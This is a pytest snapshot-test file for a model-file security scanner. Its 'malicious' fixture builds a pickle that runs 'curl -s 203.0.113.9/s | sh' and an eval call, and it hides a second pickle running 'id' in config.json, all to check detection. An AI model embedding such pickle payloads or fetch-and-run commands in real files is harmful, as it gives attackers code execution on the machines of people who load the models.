"""What people read, one snapshot for each verdict and form."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING

import pytest

from build import pickles as p
from build.containers import safetensors, zipped
from build.inspecting import inspected
from build.snapshots import matches_snapshot
from weighbridge.render.documents import scan_json
from weighbridge.render.markdown import scan_markdown
from weighbridge.render.rule_page import rule_text
from weighbridge.render.terminal import Style, scan_text
from weighbridge.rules import RULES

if TYPE_CHECKING:
    from pathlib import Path

    from weighbridge.scan.report import ScanReport

PLAIN = Style(colour=False, width=100, unicode=True)
MODELS = {
    "clean": {"model.safetensors": safetensors({"w": bytes(4000)}), "README.md": b"# A model\n"},
    "suspicious": {"model.pkl": p.proto(2) + p.call("mypackage.nets", "Net", p.text("x")) + p.STOP},
    "malicious": {
        "model.pkl": p.proto(4)
        + b"]("
        + p.system("curl -s 203.0.113.9/s | sh") * 3
        + p.call("builtins", "eval", p.text("1+1"))
        + b"e.",
        "config.json": json.dumps({"on_load": (p.proto(2) + p.system("id") + p.STOP).hex()}).encode(),
        "model.safetensors": safetensors({"w": bytes(40)}, tail=b"more"),
    },
    "incomplete": {
        "archive.zip": zipped({"weights.bin": b"\xf1\xf2\xf3" * 500, "notes.txt": b"hello\n"}),
        "modeling.py": b"print('hello')\n",
        "model.safetensors": safetensors({"w": bytes(40)}),
    },
}


@pytest.fixture(params=MODELS)
def report(request: pytest.FixtureRequest, tmp_path: Path) -> ScanReport:
    folder = tmp_path / str(request.param)
    folder.mkdir()
    for name, content in MODELS[request.param].items():
        (folder / name).write_bytes(content)
    found = inspected(folder).report
    assert found.verdict.value == request.param
    return found._replace(
        knowledge="KNOWLEDGE", envelope=found.envelope._replace(started="STARTED", finished="FINISHED")
    )


def masked(text: str) -> str:
    return re.sub(r'"version": "\d+\.\d+\.\d+"', '"version": "VERSION"', text)


def test_terminal(report: ScanReport) -> None:
    matches_snapshot(f"{report.verdict.value}.txt", scan_text(report, style=PLAIN))


def test_terminal_in_colour(report: ScanReport) -> None:
    coloured = scan_text(report, style=PLAIN._replace(colour=True))
    assert re.sub(r"\x1b\[[\d;]*m", "", coloured) == scan_text(report, style=PLAIN)


def test_json(report: ScanReport) -> None:
    matches_snapshot(f"{report.verdict.value}.json", masked(scan_json([report])))


def test_markdown(report: ScanReport) -> None:
    matches_snapshot(f"{report.verdict.value}.md", scan_markdown([report]))


def test_the_word_clean_never_stands_beside_opaque_bytes(report: ScanReport) -> None:
    if any(file.coverage.opaque for file in report.artifact.files):
        assert "clean" not in scan_text(report, style=PLAIN).lower().split()


def test_a_rule_is_explained() -> None:
    rule = next(rule for rule in RULES if rule.id == "pickle/dangerous-call")
    matches_snapshot("explain.txt", rule_text(rule))
